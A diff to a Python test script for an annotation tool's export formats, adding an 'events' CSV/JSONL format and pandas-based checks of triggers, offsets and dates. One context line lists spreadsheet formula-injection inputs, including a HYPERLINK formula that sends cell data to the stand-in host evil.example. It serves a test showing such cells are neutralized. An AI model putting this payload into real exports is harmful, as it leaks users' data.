@@ -20,7 +20,7 @@ from pathlib import Path
 SPANMARK = sys.argv[1]
 ROOT = Path(__file__).resolve().parents[2]
 SAMPLE = ROOT / "sample-projects" / "kp-wssp-abduction-attempt.spanmark.json"
-FORMATS = ["jsonl", "conll", "hf", "brat", "doccano", "label-studio", "csv"]
+FORMATS = ["jsonl", "conll", "hf", "brat", "doccano", "label-studio", "csv", "events"]
 checks = 0
 
 
@@ -363,6 +363,34 @@ def check_csv(out, expected, texts, project):
     ok(got == expected, "csv keeps every span")
 
 
+def check_events(out, project):
+    """pandas reads the event table: one row per frame, each trigger on its text, event_date a date."""
+    import pandas as pd
+
+    frames = {}
+    for d in project["documents"]:
+        (layer,) = d["layers"].keys()
+        spans = {sp["id"]: sp for sp in d["layers"][layer]}
+        for f in d.get("frames", {}).get(layer, []):
+            t = spans[f["trigger"]]
+            frames[f"E{f['id']}"] = (d["id"], d["text"][t["start"]:t["end"]], d.get("date"))
+    table = pd.read_csv(out / "events.csv", dtype={"event_id": str, "document": str, "trigger": str})
+    lines = pd.read_json(out / "events.jsonl", lines=True, dtype=False) if frames else pd.DataFrame()
+    ok(len(table) == len(frames) == len(lines), f"events: one row per frame ({len(table)}, {len(frames)})")
+    texts = {d["id"]: d["text"] for d in project["documents"]}
+    dates = pd.to_datetime(table["event_date"], format="%Y-%m-%d") if len(table) else []
+    for i, row in table.iterrows():
+        doc, trigger, date = frames[row["event_id"]]
+        ok(row["document"] == doc and row["trigger"] == trigger, f"events: {row['event_id']} is its frame")
+        s, e = int(row["trigger_start"]), int(row["trigger_end"])
+        ok(texts[doc][s:e] == trigger, f"events: trigger offsets are code points: {row['event_id']}")
+        want = pd.NaT if date is None else pd.Timestamp(date)
+        ok(dates[i] == want or (pd.isna(dates[i]) and pd.isna(want)), f"events: event_date of {row['event_id']}")
+    for _, line in lines.iterrows():
+        doc, trigger, date = frames[line["event_id"]]
+        ok(line["trigger"] == trigger and line["event_date"] == date, f"events.jsonl: {line['event_id']}")
+
+
 def check_csv_formulas(tmp):
     """Cells a spreadsheet would run as formulas get a ' unless --raw; Python's csv reads both back."""
     live = ['=HYPERLINK("http://evil.example/?q="&A1,"Open")', "+1", "-2", "@SUM(A1:A3)", "\t=1+1", "\r=1+1"]
@@ -399,7 +427,12 @@ def main():
         tmp = Path(tmp)
         tricky = tmp / "tricky.spanmark.json"
         tricky_project(tricky)
-        for project in [SAMPLE, tricky]:
+        # The sample with a date on its article, so event_date is filled.
+        dated = tmp / "dated-sample.spanmark.json"
+        sample = json.loads(SAMPLE.read_text(encoding="utf-8"))
+        sample["documents"][0]["date"] = "2025-03-14"
+        dated.write_text(json.dumps(sample, ensure_ascii=False), encoding="utf-8")
+        for project in [dated, tricky]:
             expected, texts, raw = expected_spans(project)
             for fmt in FORMATS:
                 out = tmp / project.stem / fmt
@@ -413,6 +446,7 @@ def main():
             check_doccano(base / "doccano", expected, texts)
             check_label_studio(base / "label-studio", expected, texts)
             check_csv(base / "csv", expected, texts, raw)
+            check_events(base / "events", raw)
             print(f"{project.name}: all formats agree with their consumers")
         check_csv_formulas(tmp)
         print("csv: formula cells neutralized, exact with --raw")
